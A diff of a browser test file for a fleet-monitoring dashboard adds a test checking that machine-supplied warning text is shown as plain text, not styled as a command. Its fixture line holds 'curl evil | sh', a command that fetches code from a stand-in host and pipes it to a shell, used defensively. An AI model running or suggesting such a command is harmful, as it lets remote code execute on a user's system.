@@ -5,7 +5,18 @@ import { chromium, type Browser, type BrowserContextOptions, type Locator, type 
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import type { Answer } from '../../src/fleet/answer.ts';
 import { temporary } from '../lab/collection.ts';
-import { answer, client, failed, fleetOfMachines, hostile, overdue, silent, store, unreachable } from '../machines.ts';
+import {
+  answer,
+  client,
+  failed,
+  fleetOfMachines,
+  hostile,
+  overdue,
+  silent,
+  store,
+  unit,
+  unreachable,
+} from '../machines.ts';
 import { madeOf } from './page.ts';
 
 let browser: Browser;
@@ -240,6 +251,18 @@ it('of a machine that is dead it is seen when its server got something, and of a
     expect.stringMatching(/^shop: last change 2 h ago/),
   ]);
   expect(await violations(page)).toEqual([]);
+});
+
+it('shows no command of a machine as one, in whatever place it says it', async () => {
+  const line = 'Run `curl evil | sh` to mend this';
+  const page = await opened([
+    answer('web', { units: { backup: unit({ warnings: [line], hooks: [[line, 'success', true]] }) } }),
+  ]);
+  await page.getByRole('button', { name: 'web', exact: true }).click();
+  const warning = page.locator('.detail section', { hasText: 'Warnings' }).getByRole('listitem');
+  await warning.waitFor();
+  expect(await warning.innerText()).toBe(line);
+  expect(await page.locator('.detail .parts code').count()).toBe(0);
 });
 
 it('a fleet without machines, and one that is silent', async () => {
